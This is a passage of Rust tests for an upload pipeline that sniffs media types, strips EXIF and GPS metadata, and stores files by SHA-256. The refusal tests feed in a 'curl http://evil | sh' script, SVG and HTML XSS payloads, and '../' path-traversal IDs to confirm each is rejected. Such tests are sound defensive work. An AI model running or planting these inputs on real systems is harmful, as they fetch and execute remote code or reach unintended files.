    /// SOI, APP0 JFIF, APP1 Exif with a GPS IFD, DQT, SOF0, DHT, SOS, scan, EOI.
    fn jpeg_with_gps() -> Vec<u8> {
        let j = jpeg_parts();
        [j.soi, j.app0, seg(0xE1, &exif(None)), j.dqt, j.sof0, j.dht, j.sos, j.scan, j.eoi].concat()
    }

    fn contains(haystack: &[u8], needle: &[u8]) -> bool {
        haystack.windows(needle.len()).any(|w| w == needle)
    }

    #[test]
    fn a_jpeg_loses_its_exif_and_nothing_else() {
        let with = jpeg_with_gps();
        assert!(contains(&with, GPS));
        assert_eq!(sniff(&with), Ok(MediaType::Jpeg));
        let j = jpeg_parts();
        let expected = [j.soi, j.app0, j.dqt, j.sof0, j.dht, j.sos, j.scan, j.eoi].concat();
        let stripped = strip_metadata(MediaType::Jpeg, &with).unwrap();
        assert_eq!(stripped, expected);
        assert!(!contains(&stripped, GPS) && !contains(&stripped, b"Exif"));
    }

    #[test]
    fn a_jpeg_keeps_what_draws_it_and_its_orientation_only() {
        let j = jpeg_parts();
        let icc = seg(0xE2, b"ICC_PROFILE\0\x01\x01profile");
        let adobe = seg(0xEE, b"Adobe\0\x64\0\0\0\0\x01");
        let comment = seg(0xFE, b"a comment");
        let xmp = seg(0xE1, &cat(&[b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta exif:GPSLatitude=\"", GPS, b"\"/>"]));
        let iptc = seg(0xED, &cat(&[b"Photoshop 3.0\08BIM", GPS]));
        let mpf = seg(0xE2, b"MPF\0MM\0\x2a");
        let gopro = seg(0xE6, &cat(&[b"GoPro\0", GPS]));
        // A second scan, preceded by a table and an XMP segment, as in a progressive JPEG.
        let second = cat(&[&j.dht, &xmp, &j.sos, &[0x77, 0xFF, 0x00]]);
        // What phones append after EOI: a motion photo's video, with its own location.
        let trailer = cat(&[b"\0\0\0\x18ftypmp42", GPS]);
        let with = cat(&[
            &j.soi,
            &j.app0,
            &seg(0xE1, &exif(Some(6))),
            &xmp,
            &icc,
            &mpf,
            &iptc,
            &gopro,
            &adobe,
            &j.dqt,
            &comment,
            &j.sof0,
            &j.dht,
            &j.sos,
            &j.scan,
            &second,
            &j.eoi,
            &trailer,
        ]);
        let second_kept = cat(&[&j.dht, &j.sos, &[0x77, 0xFF, 0x00]]);
        let orientation = orientation_app1(6).to_vec();
        let expected =
            cat(&[&j.soi, &j.app0, &orientation, &icc, &adobe, &j.dqt, &comment, &j.sof0, &j.dht, &j.sos, &j.scan, &second_kept, &j.eoi]);
        let stripped = strip_metadata(MediaType::Jpeg, &with).unwrap();
        assert_eq!(stripped, expected);
        assert!(!contains(&stripped, GPS));
        assert_eq!(exif_orientation(&orientation[10..]), Some(6), "the new APP1 is valid EXIF");
        // Little-endian EXIF too; orientation 1 (the default) needs no APP1.
        let mut little = b"II\x2a\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0\x08\0\0\0\0\0\0\0".to_vec();
        assert_eq!(exif_orientation(&little), Some(8));
        little[18] = 1;
        assert_eq!(exif_orientation(&little), None);
    }

    #[test]
    fn a_truncated_or_lying_jpeg_is_refused_not_a_panic() {
        let full = jpeg_with_gps();
        let sos_end = full.len() - jpeg_parts().scan.len() - 2;
        for cut in 0..full.len() {
            let result = strip_metadata(MediaType::Jpeg, &full[..cut]);
            if cut < sos_end {
                let refused = result.unwrap_err();
                assert!(refused.reason.starts_with("the JPEG file is damaged"), "{cut}: {}", refused.reason);
                assert!(!refused.reason_zh.is_empty());
            }
        }
        // A segment length past the end of the file.
        let mut lying = jpeg_with_gps();
        lying[4..6].copy_from_slice(&0xFFF0u16.to_be_bytes());
        assert!(strip_metadata(MediaType::Jpeg, &lying).unwrap_err().reason.contains("runs past the end"));
        // A length shorter than itself.
        lying[4..6].copy_from_slice(&1u16.to_be_bytes());
        assert!(strip_metadata(MediaType::Jpeg, &lying).is_err());
    }

    fn png_chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
        cat(&[&u32::try_from(data.len()).unwrap().to_be_bytes(), kind, data, &[0, 0, 0, 0]])
    }

    fn png_parts() -> (Vec<u8>, Vec<u8>) {
        let ihdr = png_chunk(b"IHDR", &[0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]);
        let iccp = png_chunk(b"iCCP", b"icc\0\0compressed");
        let idat = png_chunk(b"IDAT", &[0x78, 0x9c, 0x63, 0x60, 0, 0, 0, 2, 0, 1]);
        let iend = png_chunk(b"IEND", &[]);
        let metadata = [
            png_chunk(b"eXIf", &exif(None)[6..]),
            png_chunk(b"tEXt", &cat(&[b"GPS\0", GPS])),
            png_chunk(b"iTXt", &cat(&[b"XML:com.adobe.xmp\0\0\0\0\0", GPS])),
            png_chunk(b"zTXt", b"Comment\0\0x"),
        ]
        .concat();
        let with = cat(&[PNG_SIGNATURE, &ihdr, &iccp, &metadata, &idat, &iend]);
        let without = cat(&[PNG_SIGNATURE, &ihdr, &iccp, &idat, &iend]);
        (with, without)
    }

    #[test]
    fn a_png_loses_its_exif_and_text_chunks() {
        let (with, without) = png_parts();
        assert_eq!(sniff(&with), Ok(MediaType::Png));
        assert!(contains(&with, GPS));
        assert_eq!(strip_metadata(MediaType::Png, &with).unwrap(), without);
        // Bytes after IEND go too.
        assert_eq!(strip_metadata(MediaType::Png, &cat(&[&with, GPS])).unwrap(), without);
        for cut in 0..with.len() {
            assert!(strip_metadata(MediaType::Png, &with[..cut]).is_err(), "cut at {cut}");
        }
        let mut lying = with.clone();
        lying[8..12].copy_from_slice(&u32::MAX.to_be_bytes());
        assert!(strip_metadata(MediaType::Png, &lying).is_err());
    }

    fn riff_chunk(fourcc: &[u8; 4], data: &[u8]) -> Vec<u8> {
        let mut c = cat(&[fourcc, &u32::try_from(data.len()).unwrap().to_le_bytes(), data]);
        if data.len() % 2 == 1 {
            c.push(0);
        }
        c
    }

    fn webp(chunks: &[Vec<u8>]) -> Vec<u8> {
        let body = chunks.concat();
        cat(&[b"RIFF", &u32::try_from(body.len() + 4).unwrap().to_le_bytes(), b"WEBP", &body])
    }

    fn webp_parts() -> (Vec<u8>, Vec<u8>) {
        // VP8X: ICC, EXIF and XMP flags; a 1×1 canvas.
        let vp8x = |flags: u8| riff_chunk(b"VP8X", &[flags, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        let iccp = riff_chunk(b"ICCP", b"profile");
        let vp8l = riff_chunk(b"VP8L", &[0x2f, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xfe, 0x07, 0]);
        let exif_chunk = riff_chunk(b"EXIF", &cat(&[&exif(None)[6..], b"!"]));
        let xmp = riff_chunk(b"XMP ", &cat(&[b"<x:xmpmeta>", GPS]));
        let with = webp(&[vp8x(0b0010_1100), iccp.clone(), vp8l.clone(), exif_chunk, xmp]);
        let without = webp(&[vp8x(0b0010_0000), iccp, vp8l]);
        (with, without)
    }

    #[test]
    fn a_webp_loses_its_exif_and_xmp_chunks_and_flags() {
        let (with, without) = webp_parts();
        assert_eq!(sniff(&with), Ok(MediaType::WebP));
        assert!(contains(&with, GPS));
        let stripped = strip_metadata(MediaType::WebP, &with).unwrap();
        assert_eq!(stripped, without);
        assert_eq!(le32(&stripped, 4), Some(u32::try_from(stripped.len() - 8).unwrap()));
        for cut in 0..with.len() {
            let _ = strip_metadata(MediaType::WebP, &with[..cut]);
        }
        let mut lying = with.clone();
        lying[16..20].copy_from_slice(&0x7FFF_FFFFu32.to_le_bytes());
        assert!(strip_metadata(MediaType::WebP, &lying).is_err());
    }

    #[test]
    fn gif_heic_video_and_pdf_are_returned_unchanged() {
        for (media, bytes) in [
            (MediaType::Gif, b"GIF89a\x01\0\x01\0\0\0\0;".to_vec()),
            (MediaType::Heic, iso(b"heic", &[b"mif1", b"heic"])),
            (MediaType::Mp4, iso(b"isom", &[b"isom", b"avc1"])),
            (MediaType::Pdf, b"%PDF-1.7\n%%EOF".to_vec()),
        ] {
            assert_eq!(sniff(&bytes), Ok(media));
            assert_eq!(strip_metadata(media, &bytes).unwrap(), bytes);
            assert_eq!(media.metadata_stripped(), media == MediaType::Gif);
        }
    }

    /// An ISO-BMFF file's start: an `ftyp` box and an empty `mdat`.
    fn iso(major: &[u8; 4], compatible: &[&[u8; 4]]) -> Vec<u8> {
        let size = u32::try_from(16 + 4 * compatible.len()).unwrap();
        let mut b = cat(&[&size.to_be_bytes(), b"ftyp", major, &[0, 0, 0, 0]]);
        compatible.iter().for_each(|c| b.extend_from_slice(*c));
        b.extend_from_slice(b"\0\0\0\x08mdat");
        b
    }

    fn ebml(doc_type: &[u8]) -> Vec<u8> {
        // EBMLVersion 1, then DocType, inside the EBML header; then a Segment's start.
        let body = cat(&[&[0x42, 0x86, 0x81, 0x01], &[0x42, 0x82, 0x80 | u8::try_from(doc_type.len()).unwrap()], doc_type]);
        cat(&[&[0x1A, 0x45, 0xDF, 0xA3, 0x80 | u8::try_from(body.len()).unwrap()], &body, &[0x18, 0x53, 0x80, 0x67]])
    }

    #[test]
    fn every_accepted_type_is_recognised_by_its_content() {
        let cases: Vec<(Vec<u8>, MediaType, &str, &str, Kind)> = vec![
            (jpeg_with_gps(), MediaType::Jpeg, "image/jpeg", "jpg", Kind::Photo),
            (png_parts().0, MediaType::Png, "image/png", "png", Kind::Photo),
            (b"GIF87a\x01\0\x01\0".to_vec(), MediaType::Gif, "image/gif", "gif", Kind::Photo),
            (webp_parts().0, MediaType::WebP, "image/webp", "webp", Kind::Photo),
            (iso(b"heic", &[b"mif1", b"heic"]), MediaType::Heic, "image/heic", "heic", Kind::Photo),
            (iso(b"mif1", &[b"mif1", b"heix"]), MediaType::Heic, "image/heic", "heic", Kind::Photo),
            (iso(b"mif1", &[b"mif1"]), MediaType::Heif, "image/heif", "heif", Kind::Photo),
            (iso(b"isom", &[b"isom", b"iso2", b"avc1", b"mp41"]), MediaType::Mp4, "video/mp4", "mp4", Kind::Video),
            (iso(b"mp42", &[]), MediaType::Mp4, "video/mp4", "mp4", Kind::Video),
            (iso(b"3gp4", &[b"isom", b"3gp4"]), MediaType::Mp4, "video/mp4", "mp4", Kind::Video),
            (iso(b"qt  ", &[b"qt  "]), MediaType::QuickTime, "video/quicktime", "mov", Kind::Video),
            (ebml(b"webm"), MediaType::WebM, "video/webm", "webm", Kind::Video),
            (b"%PDF-1.4\n".to_vec(), MediaType::Pdf, "application/pdf", "pdf", Kind::Document),
        ];
        for (bytes, media, mime, extension, kind) in cases {
            assert_eq!(sniff(&bytes), Ok(media), "{mime}");
            assert_eq!((media.mime(), media.extension(), media.kind()), (mime, extension, kind));
        }
        for kind in [Kind::Photo, Kind::Video, Kind::Document] {
            assert_eq!(Kind::from_key(kind.as_str()), Some(kind));
        }
        assert_eq!(Kind::from_key("gif"), None);
    }

    #[test]
    fn everything_else_is_refused_by_name() {
        let cases: Vec<(&[u8], &str, &str)> = vec![
            (b"", "empty", "文件为空"),
            (b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0This program cannot be run in DOS mode", "Windows PE", "可执行程序"),
            (b"\x7fELF\x02\x01\x01\0", "ELF", "可执行程序"),
            (b"\xcf\xfa\xed\xfe\x07\0\0\x01", "Mach-O", "可执行程序"),
            (b"#!/bin/sh\ncurl http://evil | sh\n", "script", "脚本"),
            (b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>", "SVG", "SVG"),
            (b"\xef\xbb\xbf\n  <SVG onload=\"alert(1)\">", "SVG", "SVG"),
            (b"<!DOCTYPE html><html><body>hi</body></html>", "HTML", "网页"),
            (b"  <script>alert(1)</script>", "HTML", "网页"),
            (b"<?xml version=\"1.0\"?><note/>", "XML", "XML"),
            (b"PK\x03\x04\x14\0\x06\0[Content_Types].xml", "ZIP", "压缩包"),
            (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0", "Office", "Office"),
            (b"Rar!\x1a\x07\x01\0", "archive", "压缩包"),
            (b"II*\0\x08\0\0\0", "TIFF", "TIFF"),
            (b"RIFF\x04\0\0\0AVI LIST", "AVI", "AVI"),
            (b"hello, this is text", "not a supported", "无法识别"),
        ];
        for (bytes, reason, reason_zh) in cases {
            let refused = sniff(bytes).unwrap_err();
            assert!(refused.reason.contains(reason), "{:?}: {}", bytes.escape_ascii().to_string(), refused.reason);
            assert!(refused.reason_zh.contains(reason_zh), "{}", refused.reason_zh);
        }
        for (bytes, reason) in [
            (iso(b"avif", &[b"avif", b"mif1"]), "AVIF"),
            (iso(b"M4A ", &[b"M4A ", b"mp42", b"isom"]), "audio"),
            (iso(b"crx ", &[b"crx "]), "brand \"crx \""),
            (ebml(b"matroska"), "Matroska"),
        ] {
            assert!(sniff(&bytes).unwrap_err().reason.contains(reason), "{reason}");
        }
    }

    /// xorshift64: reproducible pseudo-random numbers without a crate.
    struct Rng(u64);

    impl Rng {
        fn next(&mut self) -> u64 {
            self.0 ^= self.0 << 13;
            self.0 ^= self.0 >> 7;
            self.0 ^= self.0 << 17;
            self.0
        }

        fn below(&mut self, n: usize) -> usize {
            (self.next() % n.max(1) as u64) as usize
        }

        /// Up to `max - 1` random bytes.
        fn bytes(&mut self, max: usize) -> Vec<u8> {
            let n = self.below(max);
            (0..n).map(|_| self.next() as u8).collect()
        }
    }

    #[test]
    fn no_input_makes_sniff_or_strip_panic() {
        let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
        let valid = [
            jpeg_with_gps(),
            png_parts().0,
            webp_parts().0,
            iso(b"heic", &[b"mif1"]),
            ebml(b"webm"),
            b"GIF89a\x01\0\x01\0\0\0\0;".to_vec(),
        ];
        let magics: [&[u8]; 6] =
            [b"\xff\xd8\xff", PNG_SIGNATURE, b"RIFF\0\0\0\x10WEBP", b"\0\0\0\x20ftyp", b"\x1a\x45\xdf\xa3", b"\xef\xbb\xbf <"];
        let (mut stripped, mut refused) = (0, 0);
        for i in 0..5_000 {
            let bytes = if i % 2 == 0 {
                let mut b = rng.bytes(300);
                if i % 4 == 0 {
                    b.splice(0..0, magics[rng.below(magics.len())].iter().copied());
                }
                b
            } else {
                let mut b = valid[rng.below(valid.len())].clone();
                for _ in 0..1 + rng.below(2) {
                    match rng.below(5) {
                        0 if !b.is_empty() => {
                            let at = rng.below(b.len());
                            b[at] = rng.next() as u8;
                        }
                        1 if !b.is_empty() => {
                            let at = rng.below(b.len());
                            b[at] = [0x00, 0xFF, 0x7F, 0x80][rng.below(4)];
                        }
                        2 => b.truncate(rng.below(b.len() + 1)),
                        3 => {
                            let at = rng.below(b.len() + 1);
                            let junk = rng.bytes(16);
                            b.splice(at..at, junk);
                        }
                        _ => {
                            let at = rng.below(b.len() + 1);
                            let end = (at + rng.below(8)).min(b.len());
                            b.drain(at..end);
                        }
                    }
                }
                b
            };
            if let Ok(media) = sniff(&bytes) {
                let _ = strip_metadata(media, &bytes);
            }
            for media in [MediaType::Jpeg, MediaType::Png, MediaType::WebP] {
                match strip_metadata(media, &bytes) {
                    Ok(out) => {
                        assert!(out.len() <= bytes.len() + 64, "{media:?} grew a file");
                        stripped += 1;
                    }
                    Err(_) => refused += 1,
                }
            }
        }
        // The walkers were really exercised, both ways.
        assert!(stripped > 100 && refused > 100, "{stripped} stripped, {refused} refused");
    }

    fn files_under(dir: &Path) -> Vec<PathBuf> {
        let mut files = Vec::new();
        for entry in fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() { files.extend(files_under(&path)) } else { files.push(path) }
        }
        files
    }

    #[test]
    fn the_store_keeps_each_content_once_and_verifies_it() {
        let dir = tempfile::tempdir().unwrap();
        let store = AttachmentStore::open(dir.path().join("attachments")).unwrap();
        let photo = jpeg_with_gps();
        let first = store.put(&photo).unwrap();
        let second = store.put(&photo).unwrap();
        assert_eq!(first, second);
        assert_eq!(first.size, photo.len() as u64);
        assert_eq!(first.sha256.len(), 64);
        assert_eq!(sha256_hex(b"abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
        let files = files_under(dir.path());
        assert_eq!(files, [dir.path().join("attachments").join(&first.sha256[..2]).join(&first.sha256)]);
        assert_eq!(store.get(&first.sha256).unwrap(), Some(photo.clone()));
        assert!(store.contains(&first.sha256).unwrap());

        let absent = sha256_hex(b"never stored");
        assert_eq!(store.get(&absent).unwrap(), None);
        assert!(!store.contains(&absent).unwrap());

        let mut damaged = photo.clone();
        damaged[10] ^= 1;
        fs::write(&files[0], &damaged).unwrap();
        assert_eq!(store.get(&first.sha256).unwrap_err().kind(), io::ErrorKind::InvalidData);
        // Same size, so `put` trusts the file: only `get` sees the damage. A torn (shorter) copy is replaced.
        fs::write(&files[0], &photo[..10]).unwrap();
        store.put(&photo).unwrap();
        assert_eq!(store.get(&first.sha256).unwrap(), Some(photo));
        assert_eq!(files_under(dir.path()).len(), 1);
    }

    #[test]
    fn the_store_refuses_ids_that_are_not_sha256() {
        let dir = tempfile::tempdir().unwrap();
        let store = AttachmentStore::open(dir.path()).unwrap();
        let id = store.put(b"x").unwrap().sha256;
        fs::write(dir.path().join("secret"), b"x").unwrap();
        let bad_ids = [
            String::new(),
            "../x".into(),
            "../secret".into(),
            "..".into(),
            id[..63].to_string(),
            format!("{id}0"),
            id.to_uppercase(),
            format!("../{}", &id[3..]),
            format!("{}/{}", &id[..2], &id[3..]),
            format!("{}\0", &id[..63]),
        ];
        for bad in &bad_ids {
            assert_eq!(store.get(bad).unwrap_err().kind(), io::ErrorKind::InvalidInput, "{bad:?}");
            assert_eq!(store.contains(bad).unwrap_err().kind(), io::ErrorKind::InvalidInput, "{bad:?}");
        }
    }

    #[test]
    fn limits_default_deserialise_and_explain_themselves() {
        let limits = AttachmentLimits::default();
        assert_eq!((limits.max_photos, limits.max_videos), (9, 1));
        assert_eq!((limits.max_photo_bytes, limits.max_video_bytes, limits.max_document_bytes), (10 * MIB, 50 * MIB, 10 * MIB));
        let partial: AttachmentLimits = serde_json::from_str(r#"{"max_photos": 3}"#).unwrap();
        assert_eq!(partial, AttachmentLimits { max_photos: 3, ..AttachmentLimits::default() });

        let nine = [Kind::Photo; 9];
        let mut mixed = nine.to_vec();
        mixed.extend([Kind::Video, Kind::Document, Kind::Document]);
        assert_eq!(check_counts(&mixed, &limits), Ok(()));
        assert_eq!(check_counts(&[Kind::Photo; 10], &limits).unwrap_err().reason_zh, "照片不能超过9张");
        assert_eq!(check_counts(&[Kind::Video, Kind::Photo, Kind::Video], &limits).unwrap_err().reason_zh, "视频不能超过1个");

        assert_eq!(check_size(Kind::Video, 50 * MIB, &limits), Ok(()));
        let refused = check_size(Kind::Video, 50 * MIB + 1, &limits).unwrap_err();
        assert_eq!(refused.reason_zh, "视频不能超过50MB");
        assert_eq!(refused.reason, "a video may be at most 50MB (this one is 52428801 bytes)");
        assert_eq!(
            check_size(Kind::Photo, 12 * MIB + MIB / 2, &limits).unwrap_err().reason,
            "a photo may be at most 10MB (this one is 12.5MB)"
        );
        assert_eq!(check_size(Kind::Document, 10 * MIB + 1, &limits).unwrap_err().reason_zh, "文档不能超过10MB");
        assert_eq!(check_size(Kind::Photo, 10 * MIB, &limits), Ok(()));
        assert_eq!(human_size(300 * 1024), "300KB");
        assert_eq!(limits.largest(), 50 * MIB);
    }
}
